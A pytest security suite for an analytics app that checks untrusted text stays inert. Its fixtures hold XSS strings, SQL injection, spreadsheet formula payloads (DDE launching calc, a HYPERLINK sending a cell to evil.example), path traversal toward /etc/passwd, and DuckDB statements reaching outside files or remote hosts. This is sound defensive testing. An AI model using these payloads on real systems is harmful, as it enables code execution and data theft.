"""The visitor's own words are shown letter for letter: never markup, never a formula, never SQL, never a path."""

from __future__ import annotations

import csv
import io
import json
import re
import subprocess
import sys
from pathlib import Path

import openpyxl
import pyarrow as pa
import pytest

from analytics import exports
from analytics.errors import Unusable
from analytics.facts import build
from analytics.ingest import Hints, load, understand
from analytics.keeping import Kept
from analytics.keeping_home import Home
from analytics.terminal import table_text
from analytics.views import Filter, View
from analytics.warehouse import Warehouse
from analytics.words import words
from tests.ingest_files import rows_text, workbook
from tests.screens import PAGES, Visitor, workspace_with
from tests.source import ROOT
from ui.desk import desk_of
from ui.markup import plain

MARKED = {
    "image": "![x](http://evil.example/x.png)",
    "script": "<script>alert(1)</script>",
    "handler": '<img src="http://evil.example/x" onerror=alert(1)>',
    "link": "[link](javascript:alert(1))",
    "formula": "$x$ and $$y$$",
    "icon": ":material/delete: :smile: :red[red]",
    "heading": "# big\n## bigger",
    "autolink": "http://evil.example/a?b=c www.evil.example <http://evil.example>",
    "code": "`code` ```block``` ~~gone~~",
    "right to left": "invoice\u202efdp.exe",
    "nothing wide": "Anna\u200b\u2060\ufeff",
    "terminal": "\x1b[31mred\x1b[0m\x07",
}
SQL = [
    "'; drop table sales; --",
    '"; drop table sales; --',
    "$x",
    "{x}",
    "%s",
    "x' or '1'='1",
    "read_csv('/etc/passwd')",
]
HEAD = ("Client", "Date", "Amount", "Manager", "Order")


def base(value: str) -> str:
    """A base with one text everywhere a text can be: in the client, the manager, the order."""
    rows = [(value, f"2024-{month:02}-05", str(100 * month), value, value) for month in range(1, 7)]
    rows += [("Boris", f"2024-{month:02}-07", "10", "Vera", f"o{month}") for month in range(1, 7)]
    return rows_text([HEAD, *rows])


ESCAPED = re.compile(r"\\[^\w\s]")
WORKING = ("](", "<", "$", ":", "`", "~", "www.", "\u202e", "\u200b", "\x1b")
OURS = re.compile(r":\w+-badge|:material/\w+:|: ")
# Everything at once: Streamlit looks for each sign by itself.
ALL_AT_ONCE = " ".join(value.split("\n")[0] for kind, value in MARKED.items() if kind != "terminal")
SHEET = "!x(evil.example) $x$ <b>"


def working(shown: list[str]) -> list[str]:
    """Texts for Markdown in which a sign of the visitor's still works."""
    suspected = [text for text in shown if "evil" in text or "alert" in text]
    return [text for text in suspected if any(sign in OURS.sub("", ESCAPED.sub("", text)) for sign in WORKING)]


@pytest.mark.parametrize("room", PAGES)
def test_no_page_takes_a_name_for_markup(room):
    """Pages by link, filtered by the manager of that name and with the client of that name opened."""
    browser = workspace_with(("base.csv", base(ALL_AT_ONCE)))
    visitor = Visitor("en", browser).opens(room, filter__manager=[ALL_AT_ONCE], client=ALL_AT_ONCE)
    assert working(visitor.markdown()) == []


def test_the_name_of_a_file_and_of_its_columns_is_not_markup():
    header = (ALL_AT_ONCE, "Date", "Amount", f"{ALL_AT_ONCE} 2")
    text = rows_text([header, ("A", "2024-03-05", "10", "x"), ("B", "soon", "1", "y")])
    visitor = Visitor("en").opens("data").uploads((f"{ALL_AT_ONCE}.csv", text.encode()))
    assert any("evil" in shown for shown in visitor.markdown()) and working(visitor.markdown()) == []


def harmless(visitor: Visitor) -> bool:
    """Whether the screen shows the visitor's own words, and none of them as markup."""
    assert any("evil" in shown for shown in visitor.reads()) and working(visitor.markdown()) == []
    return True


class TestWhatStandsAroundTheTables:
    def test_names_of_bases_are_letters(self):
        visitor = Visitor("en", workspace_with(("base.csv", base("Anna")))).opens("data")
        visitor.workspace.keep(name=f"{ALL_AT_ONCE} open")
        other = Home(visitor.workspace.home).make(Kept(name=ALL_AT_ONCE))
        assert harmless(visitor.runs()) and f"base.{other}" in {button.key for button in visitor.app.button}
        for what in ("rename", "delete"):
            assert harmless(visitor.presses(f"base.{what}"))

    def test_a_base_called_by_its_file_is_called_by_letters(self):
        assert harmless(
            Visitor("en", workspace_with((f"{ALL_AT_ONCE[:60].replace('/', '_')}.csv", base("Anna")))).opens("data")
        )

    def test_what_the_doctor_quotes_is_letters(self):
        """Clients to be merged, examples of days, of columns that do not fit."""
        rows = [
            (f"{ALL_AT_ONCE} {form}", f"2025-01-{day:02}", "10", ALL_AT_ONCE, str(day))
            for day, form in enumerate(("ООО", "ooo", "OOO", " ООО "), 1)
        ]
        rows += [(ALL_AT_ONCE, f"2125-01-{day:02}", "-5", ALL_AT_ONCE, "x") for day in range(1, 9)]
        rows += [(ALL_AT_ONCE, ALL_AT_ONCE, ALL_AT_ONCE, "", "y")] * 3
        visitor = Visitor("en", workspace_with(("base.csv", rows_text([HEAD, *rows])))).opens("data")
        assert harmless(visitor) and any("evil" in text for text in visitor.markdown())
        assert harmless(visitor.opens("client"))

    def test_the_form_of_a_file_and_what_is_remembered_of_it_are_letters(self, tmp_path):
        sheets = {SHEET: [(ALL_AT_ONCE, "Date", "Amount"), ("A", "2024-03-05", 1)], f"{SHEET}2": [("x", "y"), (1, 2)]}
        content = workbook(tmp_path, sheets).read_bytes()
        visitor = Visitor("en").opens("data").uploads((f"{ALL_AT_ONCE}.xlsx", content))
        column = next(box for box in visitor.app.selectbox if box.key.startswith("map.") and ".customer_id." in box.key)
        column.set_value(ALL_AT_ONCE)
        assert harmless(visitor.runs()) and not visitor.complaints
        visitor.presses_named("data.load").opens("data").uploads((f"{ALL_AT_ONCE} again.xlsx", content))
        assert harmless(visitor) and any(button.key.startswith("forget.") for button in visitor.app.button)

    def test_a_file_on_its_way_is_called_by_letters(self):
        visitor = Visitor("en").opens("data").uploads((f"{ALL_AT_ONCE}.csv", base("Anna").encode()))
        visitor.patient = False
        with visitor.workspace.warehouse.importing():
            visitor.presses_named("data.load")
            desk_of(visitor.workspace.warehouse).work.progress.begins("reading", f"{ALL_AT_ONCE}.csv", 100)
            bar = next(e for e in visitor.runs().app._tree if e.type == "progress")
            assert "evil" in bar.proto.text and working([bar.proto.text]) == []
        visitor.patient = True
        assert harmless(visitor.runs())

    def test_a_complaint_about_a_file_quotes_letters(self):
        visitor = Visitor("en").opens("data").uploads((f"{ALL_AT_ONCE}.csv", b'{"a": 1}'))
        assert visitor.complaints and harmless(visitor)


@pytest.mark.parametrize("kind", MARKED)
def test_text_for_markdown_is_one_line_of_letters(kind):
    shown = plain(MARKED[kind])
    assert len(shown.splitlines()) == 1 and not any(
        sign in ESCAPED.sub("", shown) for sign in WORKING if sign != "www."
    )


FORMULAS = [
    "=1+1", "+1+1", "-1+1", "@sum(A1)", "\t=1+1", "\r=1+1", "\n=1+1", " =1+1", "\u00a0=1+1", "\uff1d1+1", "\uff0b1", "\uff0d1+1",
    "\uff20sum", '=HYPERLINK("http://evil.example?"&A1)', "=cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|'x'!A0",
    '=WEBSERVICE("http://evil.example")', "=DDE(\"cmd\";\"/C calc\";\"!A0\")",
]  # fmt: skip


@pytest.mark.parametrize("formula", FORMULAS)
class TestNothingRunsAsAFormula:
    def test_in_a_csv(self, formula):
        table = pa.table({"name": [formula], formula: [1]})
        for text in (exports.csv_plain(table), exports.csv_for_excel(table, str, words("ru"))):
            delimiter = ";" if text.startswith("\ufeff".encode()) else ","
            cells = [
                c
                for row in csv.reader(io.StringIO(text.decode("utf-8-sig"), newline=""), delimiter=delimiter)
                for c in row
            ]
            assert [c for c in cells if c.lstrip(" \u00a0")[:1] in tuple("=+-@\t\r\n\uff1d\uff0b\uff0d\uff20")] == []

    def test_in_a_workbook(self, formula):
        book = openpyxl.load_workbook(io.BytesIO(exports.workbook(pa.table({"name": [formula], formula: [1]}))))
        assert {cell.data_type for row in book.active.iter_rows() for cell in row} <= {"s", "n"}

    def test_and_json_keeps_it_as_it_was(self, formula):
        assert json.loads(exports.as_json([{"name": formula}])) == [{"name": formula}]


@pytest.mark.parametrize("value", ["-5", "+7", "-1,5", "1e3", "-0.25"])
def test_a_number_in_text_keeps_its_sign(value):
    assert exports.harmless(value) == value


@pytest.mark.parametrize("value", SQL)
class TestSql:
    def test_in_values_and_names_of_columns_is_text(self, tmp_path, value):
        text = rows_text(
            [("Client", "Date", "Amount", value), (value, "2024-03-05", "10", value), ("B", "2024-03-06", "5", "x")]
        )
        (tmp_path / "base.csv").write_text(text, "utf-8")
        warehouse = Warehouse(tmp_path / "w", [tmp_path / "base.csv"])
        hints = Hints(kind="sales", mapping={"manager": value})
        [receipt] = load(warehouse, [understand(tmp_path / "base.csv", value, hints, scratch=tmp_path / "w" / "s")])
        assert receipt.rows_used == 2 and receipt.amount == 15
        assert warehouse.rows("select customer_id, manager from sales order by rowid")[0] == {
            "customer_id": value, "manager": value,
        }  # fmt: skip

    def test_in_a_filter_is_a_value(self, tmp_path, value):
        (tmp_path / "base.csv").write_text(base("A"), "utf-8")
        warehouse = Warehouse(tmp_path / "w", [tmp_path / "base.csv"])
        load(warehouse, [understand(tmp_path / "base.csv", scratch=tmp_path / "w" / "s")])
        with pytest.raises(Unusable):
            build(warehouse, View(filters=(Filter("manager", (value,)),)))
        with pytest.raises(Unusable):
            build(warehouse, View(filters=(Filter(value, ("x",)),)))
        assert warehouse.value("select count(*) from sales") == 12


def test_sql_in_a_link_is_a_value():
    browser, value = workspace_with(("base.csv", base("Anna"))), " ".join(SQL)
    link = {"filter.manager": [value], "client": value, "window": value, "lang": value, "abc__share__a": value}
    for room in ("overview", "client"):
        Visitor("en", browser).opens(room, **link)
    assert Visitor("en", browser).workspace.warehouse.value("select count(*) from sales") == 12


@pytest.mark.parametrize("room", ["data", "client"])
def test_an_address_of_absurd_length_is_passed_over(room):
    browser = workspace_with(("base.csv", base("Anna")))
    link = {
        "filter.manager": ["x" * 50_000] * 3,
        "client": "y" * 50_000,
        "window": "9" * 50_000,
        "abc__share__a": "1" * 50_000,
    }
    visitor = Visitor("en", browser).opens(room, **link)
    assert max(map(len, visitor.markdown())) < 20_000
    told = [said for said in visitor.told if "address" in said]
    assert len(told) == 1 and "4,000" in told[0] and not visitor.app.query_params.get("filter.manager")
    assert not [said for said in visitor.runs().told if "address" in said]


def test_filters_too_many_for_an_address_are_kept_with_the_base():
    many = [f"{number:03} {'Vera' * 10}" for number in range(200)]
    rows = [("Client", "Date", "Amount", "Manager"), *((f"c{i}", "2024-03-05", "10", m) for i, m in enumerate(many))]
    browser = workspace_with(("base.csv", rows_text(rows)))
    visitor = Visitor("en", browser).opens("overview")
    visitor.app.session_state["settings"]["filter.manager"] = tuple(many[:150])
    visitor.runs()
    assert "filter.manager" not in visitor.app.query_params
    assert visitor.workspace.kept.choices["filter.manager"] == tuple(many[:150])


PATHS = ["../../x.csv", "/etc/passwd", "NUL.csv", "a" * 5000 + ".csv", "a\nb*?[x].csv", "..\0"]


@pytest.mark.parametrize("name", PATHS)
def test_the_name_of_an_upload_is_no_path(name):
    visitor = Visitor("en").opens("data").uploads((name, base("Anna").encode()))
    home = visitor.workspace.folder
    assert not visitor.complaints and visitor.presses_named("data.load").workspace.warehouse.has("sales")
    assert all(file.resolve().is_relative_to(home.resolve()) for file in home.rglob("*"))


def test_a_terminal_is_not_recoloured():
    told = table_text([{"name": MARKED["terminal"], "revenue": 5}], words("en"))
    assert "\x1b" not in told and "\x07" not in told


def test_a_complaint_of_the_command_line_is_one_line_without_escapes(tmp_path):
    name = "\x1b[31m\u202eno.csv"
    done = subprocess.run(
        [sys.executable, "-m", "analytics", "inspect", name], cwd=ROOT, capture_output=True, text=True, check=False
    )
    assert (
        done.returncode == 2
        and "\x1b" not in done.stderr
        and "\u202e" not in done.stderr
        and done.stderr.count("\n") == 1
    )


OUTSIDE = [
    "from read_csv('{file}')", "from '{file}'", "from read_text('{file}')", "from read_blob('{file}')", "from glob('{folder}/*')",
    "copy (select 1) to '{folder}/out.csv'", "attach '{folder}/other.duckdb'",
    "install httpfs", "load httpfs",
    "from read_csv('https://evil.example/x.csv')", "from 'https://evil.example/x.parquet'", "from read_parquet('s3://evil/x')",
    "export database '{folder}/all'", "import database '{folder}/all'", "from secret_of_python",
    "set enable_external_access = true",
    "create secret (type s3)", "from read_csv('{inside}/../secret.csv')",
    "pragma disable_checkpoint_on_shutdown; from read_text('{file}')",
]  # fmt: skip


@pytest.mark.parametrize("sql", OUTSIDE)
def test_even_a_statement_let_through_reaches_nothing_outside(tmp_path, sql):
    """The last line of defence: the base itself is shut in its folder."""
    secret_of_python = pa.table({"secret": [1]})
    (tmp_path / "secret.csv").write_text("secret\n1\n", "utf-8")
    warehouse = Warehouse(tmp_path / "home")
    written = sql.format(file=tmp_path / "secret.csv", folder=tmp_path, inside=tmp_path / "home")
    with pytest.raises(
        Exception, match="(?i)permission|disabled|locked|not allowed|does not exist|cannot|not found|access"
    ):
        warehouse.rows(written)
    assert secret_of_python.num_rows and not Path(tmp_path / "out.csv").exists()
